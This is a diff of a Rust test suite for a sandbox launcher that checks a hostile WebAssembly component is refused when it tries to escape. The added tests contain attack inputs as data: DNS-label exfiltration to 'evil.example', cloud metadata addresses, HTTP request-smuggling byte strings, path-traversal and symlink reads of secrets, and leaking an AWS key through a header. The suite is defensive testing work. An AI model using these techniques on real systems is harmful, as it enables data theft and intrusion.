@@ -2,7 +2,7 @@
 
 use std::time::Duration;
 
-use crate::harness::{Output, Sandbox, Service, hostile};
+use crate::harness::{Output, Sandbox, Service, hostile, launcher};
 
 /// Lets the hostile component try something with these grants.
 fn attempt(sandbox: &Sandbox, grants: &[&str], words: &[&str]) -> Output {
@@ -11,6 +11,7 @@ fn attempt(sandbox: &Sandbox, grants: &[&str], words: &[&str]) -> Output {
     sandbox.launch(&line)
 }
 
+/// It did not work, whoever said so.
 #[track_caller]
 fn denied(output: Output) -> Output {
     let output = output.expect(1);
@@ -19,22 +20,428 @@ fn denied(output: Output) -> Output {
     output
 }
 
+/// The launcher refused it by its name.
+#[track_caller]
+fn refused(output: Output, what: &str) -> Output {
+    denied(output).says(&format!("refused: {what}"))
+}
+
 #[test]
 #[ignore = "needs real peers: tests/run"]
-fn nothing_listens_and_nothing_is_sent_as_a_datagram() {
+fn escape_by_bind() {
     let sandbox = Sandbox::new();
-    for address in ["127.0.0.1:0", "0.0.0.0:0", "[::1]:0", "127.0.0.1:8080"] {
-        denied(attempt(
-            &sandbox,
-            &["--allow-host", "127.0.0.1:1"],
-            &["bind", address],
-        ));
+    for address in ["127.0.0.1:0", "127.0.0.1:8080", "0.0.0.0:8080", "[::1]:0"] {
+        let grants = ["--allow-host", "127.0.0.1:8080"];
+        let output = attempt(&sandbox, &grants, &["bind", address]);
+        refused(output, &format!("binding a socket to {address}"));
     }
-    denied(attempt(
-        &sandbox,
-        &["--allow-host", "127.0.0.1:53"],
-        &["udp", "127.0.0.1:53"],
-    ));
+}
+
+#[test]
+#[ignore = "needs real peers: tests/run"]
+fn escape_by_listening() {
+    let sandbox = Sandbox::new();
+    // A socket without an address of its own is bound by every connection; listening is what is left to refuse.
+    for (address, told) in [("0.0.0.0:0", "0.0.0.0:"), ("[::]:0", "[::]:")] {
+        let output = attempt(&sandbox, &[], &["bind", address]);
+        refused(output, &format!("listening on {told}"));
+    }
+}
+
+#[test]
+#[ignore = "needs real peers: tests/run"]
+fn escape_by_udp() {
+    let sandbox = Sandbox::new();
+    let grants = ["--allow-host", "127.0.0.1:53"];
+    let output = attempt(&sandbox, &grants, &["udp", "127.0.0.1:53"]);
+    refused(output, "a socket for datagrams (UDP)");
+}
+
+#[test]
+#[ignore = "needs real peers: tests/run"]
+fn escape_to_another_port() {
+    let (granted, other) = (Service::constant(200, ""), Service::constant(200, ""));
+    let sandbox = Sandbox::new();
+    let grants = ["--allow-host", &*granted.address()];
+    let output = attempt(&sandbox, &grants, &["probe", "127.0.0.1", &port(&other)]);
+    refused(output, &format!("a connection to {}", other.address()));
+    assert_eq!(other.requests().len(), 0);
+}
+
+#[test]
+#[ignore = "needs real peers: tests/run"]
+fn escape_to_another_name_at_the_same_address() {
+    let service = Service::constant(200, "up");
+    let port = &*port(&service);
+    let sandbox = Sandbox::new();
+    let local = format!("localhost:{port}");
+    let send = |bytes: &str| {
+        let words = ["send", "localhost", port, bytes];
+        refused(
+            attempt(&sandbox, &["--allow-host", &local], &words),
+            &format!("a request to {local}"),
+        )
+    };
+    send(&format!(
+        "GET / HTTP/1.1\\r\\nHost: other.example:{port}\\r\\n\\r\\n"
+    ))
+    .says("its `Host` is not that of the connection: other.example");
+    // A greeting of TLS names a host that nobody here can see.
+    send("\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03")
+        .says("it is TLS, in a connection for plain HTTP");
+    assert_eq!(service.requests().len(), 0);
+}
+
+#[test]
+#[ignore = "needs real peers: tests/run"]
+fn escape_by_dns_labels() {
+    let sandbox = Sandbox::new();
+    let grants = ["--allow-host", "evil.example:443"];
+    let name = "c2VjcmV0.evil.example";
+    let output = attempt(&sandbox, &grants, &["resolve", name]);
+    refused(output, &format!("a look-up of {name}"));
+    let output = attempt(&sandbox, &grants, &["probe", name, "443"]);
+    refused(output, &format!("a connection to {name}:443"));
+}
+
+#[test]
+#[ignore = "needs real peers: tests/run"]
+fn escape_by_a_name_that_is_inside() {
+    let names = Names::new();
+    for inside in [
+        "127.0.0.1",
+        "10.0.0.1",
+        "169.254.169.254",
+        "168.63.129.16",
+        "fd00:ec2::254",
+        "::ffff:127.0.0.1",
+        "64:ff9b::7f00:1",
+    ] {
+        names.write(inside);
+        let output = names.attempt("probe registry.example 80");
+        let shown = inside.trim_start_matches("::ffff:");
+        refused(output, "registry.example at ").says(shown);
+    }
+}
+
+#[test]
+#[ignore = "needs real peers: tests/run"]
+fn escape_by_rebinding() {
+    let names = Names::new();
+    let words = "rebind registry.example 80 /names/hosts 93.184.216.34 127.0.0.1";
+    let output = refused(names.attempt(words), "registry.example at 127.0.0.1");
+    // The first address was public, and there was no way to it.
+    let first = output.stdout.split("not-public").next().unwrap_or_default();
+    assert!(first.contains("93.184.216.34"), "{}", output.stdout);
+}
+
+#[test]
+#[ignore = "needs real peers: tests/run"]
+fn escape_by_ipv4_in_ipv6() {
+    let service = Service::constant(200, "");
+    let sandbox = Sandbox::new();
+    let port = &*port(&service);
+    for host in [
+        "::ffff:127.0.0.2",
+        "::127.0.0.1",
+        "64:ff9b::7f00:1",
+        "2002:7f00:1::",
+    ] {
+        let grants = ["--allow-host", &*service.address()];
+        let output = attempt(&sandbox, &grants, &["probe", host, port]);
+        refused(output, &format!("a connection to [{host}]:{port}"));
+    }
+}
+
+#[test]
+#[ignore = "needs real peers: tests/run"]
+fn escape_to_a_metadata_address() {
+    let sandbox = Sandbox::new();
+    for host in [
+        "169.254.169.254",
+        "168.63.129.16",
+        "100.100.100.200",
+        "fd00:ec2::254",
+    ] {
+        let grants = ["--allow-host", "127.0.0.1:80"];
+        let output = attempt(&sandbox, &grants, &["probe", host, "80"]);
+        refused(output, &format!("a connection to {}", place(host, "80")));
+        let output = attempt(&sandbox, &grants, &["connect", &place(host, "80")]);
+        refused(output, &format!("a connection to {}", place(host, "80")))
+            .says("it goes around the launcher's egress");
+    }
+}
+
+/// A folder that is granted as `/given`, and a secret beside it.
+fn given(sandbox: &Sandbox) -> String {
+    sandbox.write("secret", "secret");
+    sandbox.write("given/open", "open");
+    sandbox.write("given/inner/file", "");
+    format!("{}::/given", sandbox.path().join("given").display())
+}
+
+#[test]
+#[ignore = "needs real peers: tests/run"]
+fn escape_by_dot_dot() {
+    let sandbox = Sandbox::new();
+    let folder = given(&sandbox);
+    let grants = ["--dir", &*folder];
+    for path in ["/given/../secret", "/given/inner/../../secret"] {
+        let output = attempt(&sandbox, &grants, &["read", path]);
+        refused(output, "the path ").says("it leads out of the folder that is granted");
+    }
+    let output = attempt(&sandbox, &grants, &["write", "/given/../new"]);
+    refused(output, "the path ");
+    assert!(!sandbox.path().join("new").exists());
+}
+
+#[test]
+#[ignore = "needs real peers: tests/run"]
+fn escape_by_symlink() {
+    let sandbox = Sandbox::new();
+    let folder = given(&sandbox);
+    let grants = ["--dir", &*folder];
+    let secret = sandbox.path().join("secret");
+    let link = sandbox.path().join("given/link");
+    for target in ["../secret", secret.to_str().unwrap(), "/etc/passwd"] {
+        // One that the component makes, and one that is there.
+        let output = attempt(&sandbox, &grants, &["link", target, "/given/link"]);
+        refused(output, "the path ");
+        let _ = std::fs::remove_file(&link);
+        std::os::unix::fs::symlink(target, &link).unwrap();
+        let output = attempt(&sandbox, &grants, &["read", "/given/link"]);
+        refused(output, "the path link").says("it leads out of the folder that is granted");
+        std::fs::remove_file(&link).unwrap();
+    }
+}
+
+#[test]
+#[ignore = "needs real peers: tests/run"]
+fn escape_by_environment() {
+    let mut sandbox = Sandbox::new();
+    sandbox.set("AWS_SECRET_ACCESS_KEY", "hunter22hunter22");
+    let nothing = attempt(&sandbox, &[], &["environment"]).expect(0);
+    assert_eq!(nothing.stdout, "allowed: []\n");
+    // A variable can be had by naming it, and that is seen and can be refused.
+    let component = hostile().to_str().unwrap();
+    sandbox.write(
+        "p.yml",
+        "version: 1
+# attempt: environment
+secrets:
+  key: {env: AWS_SECRET_ACCESS_KEY}
+steps:
+  - gate:
+      within: 1s
+      every: 200ms
+      probes: {page: {http: {url: \"http://127.0.0.1:1/\", headers: {x-key: \"${secret.key}\"}}}}
+",
+    );
+    let line = [
+        "p.yml",
+        "--component",
+        component,
+        "--deny",
+        "variable:AWS_*",
+    ];
+    let output = sandbox.launch(&line).expect(13);
+    let output = output.says("not granted: variable AWS_SECRET_ACCESS_KEY");
+    assert!(!output.stdout.contains("hunter22") && !output.stderr.contains("hunter22"));
+}
+
+#[test]
+#[ignore = "needs real peers: tests/run"]
+fn escape_by_spinning() {
+    attempt(&Sandbox::new(), &["--max-time", "200ms"], &["spin"])
+        .expect(1)
+        .says("it ran longer than it may")
+        .says("--max-time");
+}
+
+#[test]
+#[ignore = "needs real peers: tests/run"]
+fn escape_by_memory() {
+    attempt(&Sandbox::new(), &["--max-memory", "64MiB"], &["memory"])
+        .expect(1)
+        .says("it asked for more memory than it may have")
+        .says("--max-memory");
+}
+
+#[test]
+#[ignore = "needs real peers: tests/run"]
+fn escape_by_output() {
+    let flood = attempt(&Sandbox::new(), &["--max-output", "100KiB"], &["flood"]);
+    let flood = flood.expect(1).says("it printed more than it may");
+    assert!(flood.stdout.len() <= 100 << 10, "{}", flood.stdout.len());
+}
+
+#[test]
+#[ignore = "needs real peers: tests/run"]
+fn escape_by_a_flipped_byte() {
+    let sandbox = Sandbox::new();
+    // Folders of its own: what the other tests use stays as it is. All positions are for a test of the launcher's.
+    let run = || {
+        sandbox.launch_line(&format!(
+            "XDG_CACHE_HOME=$PWD/own XDG_STATE_HOME=$PWD/state exec {} --component {} -- environment",
+            launcher().display(),
+            hostile().display()
+        ))
+    };
+    run().expect(0);
+    let folder = sandbox.path().join("own/shipgate-wasm/compiled");
+    let mut files = std::fs::read_dir(folder).unwrap();
+    let file = files.next().unwrap().unwrap().path();
+    let good = std::fs::read(&file).unwrap();
+    for place in [0, good.len() / 3, good.len() - 1] {
+        let mut bad = good.clone();
+        bad[place] ^= 1;
+        std::fs::write(&file, bad).unwrap();
+        run()
+            .expect(0)
+            .says("is not used and compiled anew: it was altered");
+    }
+    assert_eq!(std::fs::read(&file).unwrap().len(), good.len());
+}
+
+// --- More of the same kind ---
+
+#[test]
+#[ignore = "needs real peers: tests/run"]
+fn escape_by_moving_and_linking_files() {
+    let sandbox = Sandbox::new();
+    let folder = given(&sandbox);
+    let grants = ["--dir", &*folder];
+    for words in [
+        ["rename", "/given/../secret", "/given/taken"],
+        ["rename", "/given/open", "/given/../taken"],
+        ["hard-link", "/given/../secret", "/given/taken"],
+        ["hard-link", "/given/open", "/given/../taken"],
+    ] {
+        refused(attempt(&sandbox, &grants, &words), "the path ");
+    }
+    let names = |path| {
+        std::fs::read_dir(sandbox.path().join(path))
+            .unwrap()
+            .count()
+    };
+    assert_eq!(names("given"), 2);
+    assert!(!sandbox.path().join("taken").exists());
+}
+
+#[test]
+#[ignore = "needs real peers: tests/run"]
+fn escape_by_a_request_inside_another() {
+    let service = Service::constant(200, "up");
+    let port = &*port(&service);
+    let sandbox = Sandbox::new();
+    let local = format!("localhost:{port}");
+    let own = format!("Host: {local}\\r\\n");
+    let hidden = "GET /hidden HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n";
+    let length = hidden.replace("\\r", "r").replace("\\n", "n").len();
+    for (bytes, says) in [
+        (
+            format!("GET / HTTP/1.1\\r\\n{own}Content-Length: {length}\\r\\n\\r\\n{hidden}"),
+            "not all servers read one here",
+        ),
+        (
+            format!(
+                "POST / HTTP/1.1\\r\\n{own}Expect: 100-continue\\r\\nContent-Length: {length}\\r\\n\\r\\n{hidden}"
+            ),
+            "`Expect`",
+        ),
+        (
+            format!("POST / HTTP/1.1\\r\\n{own}Content_Length: {length}\\r\\n\\r\\n{hidden}"),
+            "`_`",
+        ),
+        (
+            format!(
+                "POST / HTTP/1.1\\r\\n{own}Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\nHost: other.example\\r\\n\\r\\n"
+            ),
+            "trailers",
+        ),
+        (
+            "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n".to_owned(),
+            "no strict HTTP/1.1",
+        ),
+        (
+            format!("GET //other.example/ HTTP/1.1\\r\\n{own}\\r\\n"),
+            "`//`",
+        ),
+    ] {
+        let words = ["send", "localhost", port, &bytes];
+        let output = attempt(&sandbox, &["--allow-host", &local], &words);
+        refused(output, &format!("a request to {local}")).says(says);
+    }
+    let asked = service.requests();
+    assert!(asked.iter().all(|it| it.target != "/hidden"));
+}
+
+#[test]
+#[ignore = "needs real peers: tests/run"]
+fn escape_by_spelling() {
+    // What could be said by small and capital letters is not heard outside.
+    let service = Service::constant(200, "up");
+    let port = &*port(&service);
+    let sandbox = Sandbox::new();
+    let local = format!("localhost:{port}");
+    let bytes = format!("GET / HTTP/1.1\\r\\nHost: lOcAlHoSt.:{port}\\r\\n\\r\\n");
+    let words = ["send", "LOCALhost", port, &bytes];
+    attempt(&sandbox, &["--allow-host", &local], &words).expect(0);
+    let asked = service.requests();
+    let hosts: Vec<_> = asked.iter().map(|it| it.header("host")).collect();
+    assert_eq!(hosts, [Some(&*local)]);
+}
+
+#[test]
+#[ignore = "needs real peers: tests/run"]
+fn escape_by_a_flood_of_refusals_drowns_nothing() {
+    let service = Service::constant(200, "up");
+    let sandbox = Sandbox::new();
+    let grants = ["--allow-host", &*service.address()];
+    let output = attempt(&sandbox, &grants, &["many-names", "150"]);
+    denied(output)
+        .says("100 different attempts were told: further refusals are not told")
+        .says("refused: 50 attempts that were not told");
+}
+
+/// The hostile component with the grants of a pipeline, on a machine that has no network and these names.
+struct Names(Sandbox);
+
+impl Names {
+    fn new() -> Self {
+        let names = Self(Sandbox::new());
+        names.write("127.0.0.1");
+        names
+    }
+
+    fn write(&self, address: &str) {
+        self.0
+            .write("names/hosts", format!("{address} registry.example\n"));
+    }
+
+    /// What is granted by hand may be anywhere, so a pipeline grants it.
+    fn attempt(&self, words: &str) -> Output {
+        self.0.write(
+            "p.yml",
+            format!(
+                "version: 1
+# attempt: {words}
+steps:
+  - gate:
+      within: 1s
+      every: 200ms
+      probes: {{page: {{http: {{url: \"http://registry.example/\"}}}}}}
+"
+            ),
+        );
+        self.0.launch_line(&format!(
+            "PATH=$PATH:/usr/sbin exec unshare --map-root-user --net --mount sh -c \
+             'ip link set lo up && mount --bind names/hosts /etc/hosts && exec \"$@\"' sh \
+             {} \"$PWD/p.yml\" --component {} --dir names::/names",
+            launcher().display(),
+            hostile().display()
+        ))
+    }
 }
 
 #[test]
@@ -92,7 +499,8 @@ fn nothing_goes_around_the_egress() {
     let mapped = address.replace("127.0.0.1", "[::ffff:127.0.0.1]");
     denied(attempt(&sandbox, &grants, &["connect", &mapped]));
     for name in ["localhost", "c2VjcmV0.evil.example"] {
-        denied(attempt(&sandbox, &grants, &["resolve", name]));
+        let output = attempt(&sandbox, &grants, &["resolve", name]);
+        refused(output, &format!("a look-up of {name}"));
     }
     assert!(service.requests().is_empty());
 }
@@ -201,7 +609,7 @@ fn the_egress_is_for_the_component_and_has_bounds() {
 
 #[test]
 #[ignore = "needs real peers: tests/run"]
-fn a_redirect_leads_to_no_other_host() {
+fn escape_by_redirect() {
     let other = Service::constant(200, "secret");
     let to = other.url("/taken");
     let service = Service::start(move |_| {
@@ -272,17 +680,14 @@ fn files_outside_stay_outside() {
         let _ = std::fs::remove_file(given.join("link"));
     }
     let read_only = format!("{folder}:ro");
-    denied(attempt(
-        &sandbox,
-        &["--dir", &read_only],
-        &["write", "/given/open"],
-    ));
+    let output = attempt(&sandbox, &["--dir", &read_only], &["write", "/given/open"]);
+    refused(output, "the path open").says("granted to be read only");
     denied(attempt(&sandbox, &grants, &["write", "/new"]));
     denied(attempt(&sandbox, &grants, &["write", "/given/../new"]));
     assert_eq!(std::fs::read_to_string(given.join("open")).unwrap(), "open");
     // The launcher's own files can't be granted.
     let own = concat!(env!("CARGO_TARGET_TMPDIR"), "/launcher/state/shipgate-wasm");
-    attempt(&sandbox, &[], &["read", "/x"]);
+    denied(attempt(&sandbox, &[], &["read", "/x"]));
     attempt(&sandbox, &["--dir", own], &["read", own])
         .expect(2)
         .says("the launcher keeps its own files");
@@ -405,23 +810,6 @@ fn there_is_no_environment_and_no_other_program() {
     let one = attempt(&sandbox, &["--env", "GIVEN"], &["environment"]).expect(0);
     assert_eq!(one.stdout, "allowed: [(\"GIVEN\", \"given\")]\n");
     denied(attempt(&sandbox, &[], &["spawn"]));
-}
-
-#[test]
-#[ignore = "needs real peers: tests/run"]
-fn every_bound_is_hit_with_its_reason() {
-    let sandbox = Sandbox::new();
-    attempt(&sandbox, &["--max-time", "200ms"], &["spin"])
-        .expect(1)
-        .says("it ran longer than it may")
-        .says("--max-time");
-    attempt(&sandbox, &["--max-memory", "64MiB"], &["memory"])
-        .expect(1)
-        .says("it asked for more memory than it may have")
-        .says("--max-memory");
-    let flood = attempt(&sandbox, &["--max-output", "100KiB"], &["flood"]);
-    let flood = flood.expect(1).says("it printed more than it may");
-    assert!(flood.stdout.len() <= 100 << 10, "{}", flood.stdout.len());
 }
 
 #[test]
